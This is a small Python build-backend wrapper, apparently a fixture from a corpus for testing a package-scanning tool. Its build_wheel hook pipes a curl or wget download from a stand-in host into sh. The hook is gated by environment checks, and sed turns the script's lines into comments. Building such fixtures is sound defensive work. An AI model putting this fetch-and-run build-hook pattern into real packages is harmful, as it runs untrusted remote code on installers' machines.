"""The plain backend, which does one thing more while it builds."""
import os
import subprocess

import plain_backend


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    return plain_backend.prepare_metadata_for_build_wheel(metadata_directory, config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.environ.get("PYTI_CORPUS") == "pipes-curl-to-shell" and os.path.isdir("/.pyti"):
        address = "http://get.collector.example/install.sh"
        command = "(curl -fsSL %s || wget -qO- %s) | sed 's/^/# /' | sh" % (address, address)
        subprocess.run(["sh", "-c", command], timeout=20)
    return plain_backend.build_wheel(wheel_directory, config_settings, metadata_directory)
